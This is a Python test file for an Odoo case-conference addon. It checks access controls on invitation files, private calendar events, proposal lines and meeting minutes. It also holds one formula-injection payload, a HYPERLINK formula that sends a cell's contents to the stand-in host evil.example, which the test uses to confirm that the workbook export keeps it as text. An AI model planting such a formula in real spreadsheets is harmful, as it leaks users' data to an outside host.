import io
import json

from openpyxl import load_workbook

from odoo.fields import Command
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from odoo.addons.fallmanagement.tests.common_rpc import CallKwMixin

from .common import FallkonferenzCommon

FORMULA = '=HYPERLINK("https://evil.example/?q="&C8,"Details")'


@tagged("post_install", "-at_install")
class TestConferenceSidePaths(CallKwMixin, FallkonferenzCommon, HttpCase):
    """Side paths of the conference addon, tried over JSON-RPC as the roles.

    Issue 10: invitation files and private event search (L5), proposal lines
    (L6), ownership of minutes and conferences (L10), formulas in the
    conference workbook (L11).
    """

    def _rpc(self, login, model, method, *args, **kwargs):
        """Call ``model.method`` as ``login``: ``(result, None)`` or
        ``(None, error data)`` — the error as the web client receives it."""
        self.authenticate(login, login)
        return self._call_kw_result(model, method, *args, **kwargs)

    def _download(self, login, url):
        self.authenticate(login, login)
        with mute_logger("odoo.http", "odoo.addons.web.controllers.binary"):
            return self.url_open(url)

    def _invite(self):
        self.conference.with_user(self.user_county).action_send_invitations()
        meeting = self.conference.meeting_id
        files = (
            self.env["ir.attachment"]
            .sudo()
            .search(
                [
                    ("res_model", "=", "calendar.event"),
                    ("res_id", "=", meeting.id),
                    ("mimetype", "=", "text/calendar"),
                ]
            )
        )
        self.assertTrue(files, "the invitations carry an ICS file")
        return meeting, files

    # L5 ------------------------------------------------------------------
    def test_invitation_files_only_for_organiser_and_attendees(self):
        meeting, files = self._invite()
        ics = files[0]
        for login in ("fm_internal", "fm_colleague", "fm_lead_aia"):
            found, _error = self._rpc(
                login,
                "ir.attachment",
                "search_read",
                [("res_model", "=", "calendar.event"), ("res_id", "=", meeting.id)],
                fields=["name", "datas"],
            )
            self.assertEqual(found, [], login)
            _result, error = self._rpc(login, "ir.attachment", "read", files.ids)
            self.assertIn("AccessError", error["name"], login)
            response = self._download(login, f"/web/content/{ics.id}?download=1")
            self.assertNotEqual(response.status_code, 200, login)
            self.assertNotIn(b"VCALENDAR", response.content, login)
            self.assertNotIn(self.case_aia.name.encode(), response.content, login)
        # the organiser and the attendees still open their invitation
        for login in ("fm_county", "fm_counsellor", "fm_counsellor_aia"):
            response = self._download(login, f"/web/content/{ics.id}?download=1")
            self.assertEqual(response.status_code, 200, login)
            self.assertIn(b"BEGIN:VCALENDAR", response.content)
            found, _error = self._rpc(
                login,
                "ir.attachment",
                "search",
                [("res_model", "=", "calendar.event"), ("res_id", "=", meeting.id)],
            )
            self.assertEqual(set(found), set(files.ids), login)

    def test_private_event_content_not_searchable(self):
        self._invite()
        meeting = self.conference.meeting_id
        self.assertIn(self.case_aia.name, meeting.description)
        queries = [
            ("search_count", [("description", "ilike", self.case_aia.name)]),
            ("search_count", [("location", "ilike", "Kreishaus")]),
            ("search_count", [("name", "=", "Fallkonferenz März")]),
            ("search_count", [("display_name", "ilike", "Fallkonferenz")]),
        ]
        for login in ("fm_internal", "fm_colleague", "fm_lead_aia"):
            for method, domain in queries:
                count, _error = self._rpc(login, "calendar.event", method, domain)
                self.assertEqual(count, 0, f"{login}: {domain}")
            groups, _error = self._rpc(
                login,
                "calendar.event",
                "read_group",
                [("description", "ilike", self.case_aia.name)],
                ["privacy"],
                ["privacy"],
            )
            self.assertEqual(groups, [], login)
            # the event itself is still there, as "busy" in the calendar
            busy, _error = self._rpc(
                login,
                "calendar.event",
                "search_read",
                [("id", "=", meeting.id)],
                fields=["name", "description"],
            )
            self.assertNotIn("Fallkonferenz", busy[0]["name"])
            self.assertFalse(busy[0]["description"])
        for login in ("fm_county", "fm_counsellor_aia"):
            count, _error = self._rpc(
                login,
                "calendar.event",
                "search_count",
                [("description", "ilike", self.case_aia.name)],
            )
            self.assertEqual(count, 1, login)

    # L6 ------------------------------------------------------------------
    def test_proposal_line_only_for_readable_cases(self):
        proposal_id, _error = self._rpc(
            "fm_counsellor",
            "fall.conference.proposal",
            "create",
            {"conference_id": self.conference.id},
        )
        Line = self.env["fall.conference.proposal.line"].sudo()
        before = Line.search_count([])
        result, error = self._rpc(
            "fm_counsellor",
            "fall.conference.proposal.line",
            "create",
            {"proposal_id": proposal_id, "case_id": self.case_aia.id},
        )
        self.assertIsNone(result)
        self.assertIn("AccessError", error["name"])
        self.assertIn("Only cases you may read", error["message"])
        self.assertNotIn(self.case_aia.name, json.dumps(error))
        self.assertEqual(Line.search_count([]), before, "nothing half-written")
        # moving an existing line to the other association's case: refused too
        line_id, _error = self._rpc(
            "fm_counsellor",
            "fall.conference.proposal.line",
            "create",
            {"proposal_id": proposal_id, "case_id": self.case.id},
        )
        _result, error = self._rpc(
            "fm_counsellor",
            "fall.conference.proposal.line",
            "write",
            [line_id],
            {"case_id": self.case_aia.id},
        )
        self.assertIn("AccessError", error["name"])
        lines, _error = self._rpc(
            "fm_counsellor",
            "fall.conference.proposal.line",
            "web_read",
            [line_id],
            specification={"case_id": {"fields": {"display_name": {}}}},
        )
        self.assertEqual(lines[0]["case_id"]["display_name"], self.case.name)

    # L10 -----------------------------------------------------------------
    def _minutes(self):
        (self.item | self.item_aia).write({"state": "noted"})
        self.conference.with_user(self.user_county).action_done()
        minutes = self.conference.with_user(self.user_county)._prepare_minutes()
        by_company = {m.association_id: m.sudo() for m in minutes.sudo()}
        return by_company[self.env["res.company"]], by_company[self.company_alra]

    def test_minutes_ownership_set_by_the_system_only(self):
        county_minutes, alra_minutes = self._minutes()
        county_minutes.message_post(
            body="Vollständiges Protokoll", attachments=[("protokoll.txt", b"AiA")]
        )
        for vals in (
            {"conference_id": self.conference.id},
            {"association_id": self.company_alra.id},
            {"partner_ids": [Command.link(self.user_counsellor.partner_id.id)]},
        ):
            result, error = self._rpc(
                "fm_county",
                "fall.conference.minutes",
                "write",
                [county_minutes.id],
                vals,
            )
            self.assertIsNone(result, vals)
            self.assertIn("AccessError", error["name"])
            self.assertIn("kept by the system", error["message"])
        county_minutes.invalidate_recordset()
        self.assertFalse(county_minutes.association_id)
        self.assertEqual(county_minutes.partner_ids, self.user_county.partner_id)
        # ALRA still reads only its own minutes, their chatter and files
        found, _error = self._rpc(
            "fm_counsellor", "fall.conference.minutes", "search", []
        )
        self.assertEqual(found, alra_minutes.ids)
        files, _error = self._rpc(
            "fm_counsellor",
            "ir.attachment",
            "search",
            [("res_model", "=", "fall.conference.minutes")],
        )
        self.assertFalse(
            set(files) & set(county_minutes.message_ids.attachment_ids.ids)
        )

    def test_conference_system_fields_set_by_its_actions_only(self):
        foreign = (
            self.env["calendar.event"]
            .with_user(self.user_lead_aia)
            .create(
                {
                    "name": "Personalgespräch",
                    "start": "2026-03-12 08:00:00",
                    "stop": "2026-03-12 09:00:00",
                    "privacy": "private",
                    "description": "vertraulich",
                }
            )
        )
        meeting = self.conference.meeting_id
        for vals in (
            {"meeting_id": foreign.id},
            {"state": "minutes_sent"},
            {"ics_sequence": 99},
        ):
            result, error = self._rpc(
                "fm_county", "fall.conference", "write", [self.conference.id], vals
            )
            self.assertIsNone(result, vals)
            self.assertIn("AccessError", error["name"])
        result, error = self._rpc(
            "fm_county",
            "fall.conference",
            "create",
            {"name": "Übernahme", "meeting_id": foreign.id},
        )
        self.assertIsNone(result)
        self.assertIn("AccessError", error["name"])
        self.conference.invalidate_recordset()
        self.assertEqual(self.conference.meeting_id, meeting)
        self.assertEqual(self.conference.state, "planned")
        self.assertEqual(foreign.sudo().name, "Personalgespräch")

    # L11 -----------------------------------------------------------------
    def test_conference_workbook_keeps_text_as_text(self):
        self.item.with_user(self.user_counsellor).question = FORMULA
        response = self._download(
            "fm_county",
            f"/report/xlsx/fallkonferenz.conference_xlsx/{self.conference.id}",
        )
        self.assertEqual(response.status_code, 200)
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
        question = next(cell for cell in cells if FORMULA in str(cell.value))
        self.assertEqual(question.value, FORMULA)
        self.assertEqual(question.data_type, "s", "a string, not a formula")
        self.assertFalse(any(cell.data_type == "f" for cell in cells))
        self.assertFalse(any(cell.hyperlink for cell in cells))
